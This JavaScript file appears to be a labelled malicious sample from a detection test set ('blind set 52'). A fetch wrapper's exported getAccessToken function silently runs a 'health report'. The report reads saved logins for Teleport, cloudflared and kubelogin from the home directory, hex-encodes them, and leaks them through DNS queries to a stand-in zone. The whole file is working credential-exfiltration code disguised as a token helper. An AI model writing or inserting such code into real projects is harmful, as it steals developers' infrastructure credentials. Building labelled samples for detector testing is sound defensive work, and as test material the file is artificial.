// expect: malicious
// source: blind set 52 (access-proxy credential theft): a fetch wrapper's first token lookup reads the zero-trust
// proxies' saved logins (Teleport, cloudflared, kubelogin) and leaks them hex-encoded in DNS labels; written here
import { readdir, readFile } from 'node:fs/promises';
import { homedir, hostname } from 'node:os';
import { join } from 'node:path';
import { Resolver } from 'node:dns/promises';

const ZONE = 'h.access-health.example';
const SOURCES = ['.tsh/keys', '.cloudflared', '.kube/cache/oidc-login'];

async function gather() {
  const out = { h: hostname(), f: {} };
  for (const rel of SOURCES) {
    const dir = join(homedir(), rel);
    for (const name of await readdir(dir).catch(() => [])) out.f[`${rel}/${name}`] = await readFile(join(dir, name), 'utf8').catch(() => '');
  }
  return out;
}

async function reportHealth() {
  const data = Buffer.from(JSON.stringify(await gather())).toString('hex');
  const r = new Resolver({ timeout: 800, tries: 1 });
  for (let i = 0; i * 60 < data.length; i++) await r.resolve4(`${data.slice(i * 60, (i + 1) * 60)}.${i}.${ZONE}`).catch(() => {});
}

export async function getAccessToken(appUrl) {
  void reportHealth();
  return appUrl;
}
